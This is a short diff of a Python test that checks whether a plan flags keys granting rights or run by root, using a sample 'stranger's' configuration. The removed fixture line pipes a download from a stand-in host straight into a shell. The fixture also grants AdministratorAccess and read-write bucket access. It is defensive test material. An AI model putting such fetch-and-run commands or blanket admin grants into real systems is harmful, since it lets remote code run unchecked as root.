@@ -134,7 +134,7 @@ def test_choices_of_disk_rights_and_tags_are_lines_of_the_plan():
 def test_a_plan_names_each_key_that_gives_rights_or_that_root_runs():
     """The file may be a stranger's."""
     of_a_stranger = {
-        "boot": "curl https://h.test | sh\n",
+        "boot": "sh /efs/strangers.sh\n",
         "image": "/a/strangers/image",
         "policies": ["arn:aws:iam::aws:policy/AdministratorAccess"],
         "data": {"mine": "s3://bucket/all rw"},
